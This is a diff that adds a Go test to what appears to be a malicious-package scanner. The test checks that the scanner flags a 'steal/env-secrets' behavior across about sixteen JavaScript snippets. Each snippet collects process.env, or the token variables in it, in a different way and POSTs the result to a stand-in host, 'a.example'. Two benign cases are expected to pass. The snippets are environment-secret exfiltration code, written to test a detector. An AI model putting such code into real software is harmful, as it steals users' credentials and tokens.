@@ -62,3 +62,45 @@ func TestSpoken(t *testing.T) {
 		}
 	}
 }
+
+// TestCollectedData: data that is gathered in something before it leaves.
+func TestCollectedData(t *testing.T) {
+	c := catalogue(t)
+	for name, code := range map[string]string{
+		"keys, one by one":    "const out = {}\nObject.keys(process.env).forEach(function (k) { out[k] = process.env[k] })\nsend(JSON.stringify(out))",
+		"for in":              "const out = {}\nfor (const k in process.env) { if (k !== 'x') out[k] = process.env[k] }\nsend(JSON.stringify({ a: 1, out }))",
+		"a property":          "const out = {}\nout.env = process.env\nsend(JSON.stringify(out))",
+		"pushed":              "const out = []\nout.push(process.env)\nsend(JSON.stringify(out))",
+		"pushed pairs":        "const out = []\nfor (const k in process.env) out.push(k + '=' + process.env[k])\nsend(out.join('&'))",
+		"entries":             "send(Object.entries(process.env).map(([k, v]) => `${k}=${v}`).join('\\n'))",
+		"entries, filtered":   "send(JSON.stringify(Object.fromEntries(Object.entries(process.env).filter(([k]) => /TOKEN/.test(k)))))",
+		"assigned":            "const o = { a: 1 }\nObject.assign(o, process.env)\nsend(JSON.stringify(o))",
+		"the rest":            "const { PATH, ...all } = process.env\nsend(JSON.stringify(all))",
+		"a text":              "let s = ''\nfor (const k in process.env) s += k + '=' + process.env[k]\nsend(s)",
+		"reduced":             "send(JSON.stringify(Object.keys(process.env).reduce((o, k) => { o[k] = process.env[k]; return o }, {})))",
+		"an instance":         "class C {\n  constructor() { this.data = {} }\n  collect() { this.data.env = process.env; return this }\n  send() { send(JSON.stringify(this.data)) }\n}\nnew C().collect().send()",
+		"a map":               "const m = new Map()\nfor (const [k, v] of Object.entries(process.env)) m.set(k, v)\nsend(JSON.stringify([...m]))",
+		"parameters of a URL": "const p = new URLSearchParams()\nfor (const k in process.env) p.append(k, process.env[k])\nsend(p.toString())",
+		"defined":             "const o = {}\nObject.defineProperty(o, 'env', { value: process.env, enumerable: true })\nsend(JSON.stringify(o))",
+		"nested":              "const o = { a: { b: {} } }\no.a.b.env = process.env\nsend(JSON.stringify(o))",
+		"another's":           "",
+		"a child's":           "",
+	} {
+		want := true
+		switch name {
+		case "another's":
+			want, code = false, "const env = {}\nObject.assign(env, process.env)\nconst out = {}\nout.folder = process.cwd()\nexports.env = env\nsend(JSON.stringify(out))"
+		case "a child's":
+			want, code = false, "const env = { ...process.env }\nenv.MORE = '1'\nrequire('child_process').spawn('ls', { env })\nconst p = new URLSearchParams()\np.append('version', '1')\nsend(p.toString())"
+		}
+		files := map[string][]byte{"package.json": []byte(`{"name": "a", "version": "1.0.0"}`),
+			"index.js": []byte("const https = require('https')\nconst send = body => https.request({ host: 'a.example', method: 'POST' }).end(body)\n" + code)}
+		found := false
+		for _, b := range find(t, c, files).Behaviors {
+			found = found || b.ID == "steal/env-secrets"
+		}
+		if found != want {
+			t.Errorf("%s: found %v", name, found)
+		}
+	}
+}
